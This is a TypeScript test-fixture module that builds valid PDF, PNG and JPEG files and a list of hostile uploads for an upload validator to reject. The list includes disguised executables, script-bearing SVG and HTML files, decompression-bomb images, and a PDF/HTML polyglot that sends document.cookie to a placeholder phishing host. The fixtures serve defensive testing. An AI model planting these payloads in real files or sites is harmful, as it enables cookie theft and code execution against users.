import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/** Test files made in code: the good ones a ticket or avatar upload must take, and the hostile ones it must refuse. */

export function pdf(body = '1 0 obj<</Type/Catalog>>endobj'): Buffer {
  return Buffer.from(`%PDF-1.4\n${body}\n% ${randomBytes(16).toString('hex')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]); // CRC left zero: no decoder runs here
}

/** A PNG whose header says width × height; the pixel data is one compressed row, whatever the size claims. */
export function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(width * 3 + 1))), chunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG with a JFIF header and a baseline frame of width × height. */
export function jpeg(width: number, height: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const frame = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, frame, randomBytes(64), Buffer.from([0xff, 0xd9])]);
}

/** Each hostile file with what it pretends to be. */
export function hostileFiles(): { label: string; bytes: Buffer; name: string; type: string }[] {
  return [
    { label: 'renamed Windows executable', bytes: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), randomBytes(512)]), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'renamed ELF executable', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), randomBytes(512)]), name: 'ticket.png', type: 'image/png' },
    { label: 'PDF/HTML polyglot', bytes: pdf('<html><body><script>document.location="https://phish.example/"+document.cookie</script></body></html>'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF that runs JavaScript when opened', bytes: pdf('1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PNG with HTML appended', bytes: Buffer.concat([png(10, 10), Buffer.from('<script>alert(1)</script>')]), name: 'ticket.png', type: 'image/png' },
    { label: 'SVG with script', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), name: 'ticket.png', type: 'image/svg+xml' },
    { label: 'HTML page', bytes: Buffer.from('<!doctype html><html><script>alert(1)</script></html>'), name: 'ticket.pdf', type: 'text/html' },
    { label: 'decompression bomb PNG (100,000 × 100,000)', bytes: png(100_000, 100_000), name: 'ticket.png', type: 'image/png' },
    { label: 'decompression bomb JPEG (65,000 × 65,000)', bytes: jpeg(65_000, 65_000), name: 'ticket.jpg', type: 'image/jpeg' },
    { label: 'zero bytes', bytes: Buffer.alloc(0), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF with junk before its header', bytes: Buffer.concat([Buffer.from('<html>'), pdf()]), name: 'ticket.pdf', type: 'application/pdf' },
  ];
}
